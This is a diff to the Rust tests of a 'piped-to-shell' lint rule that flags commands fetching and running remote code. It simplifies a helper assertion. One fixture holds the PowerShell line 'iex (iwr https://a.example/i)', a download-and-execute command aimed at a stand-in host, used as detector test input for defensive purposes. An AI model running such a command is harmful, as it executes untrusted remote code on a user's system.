@@ -176,7 +176,7 @@ fn severity(fetching: &Command) -> Severity {
 
 #[cfg(test)]
 mod tests {
-    use crate::lint::testing::{found_by, project};
+    use crate::lint::testing::{marked_by, project};
 
     #[test]
     fn it_finds_what_it_should() {
@@ -237,13 +237,11 @@ mod tests {
                 vec!["iex (iwr https://a.example/i)"] as Vec<&str>,
             ),
         ] {
-            let found = found_by("piped-to-shell", &project(&files));
-            let marked: Vec<_> = found
-                .iter()
-                .map(|one| one.split_once(" [").expect("marked").1)
-                .collect();
-            let expected: Vec<_> = expected.iter().map(|one| format!("{one}]")).collect();
-            assert_eq!(marked, expected, "{files:?}");
+            assert_eq!(
+                marked_by("piped-to-shell", &project(&files)),
+                expected,
+                "{files:?}"
+            );
         }
     }
 }
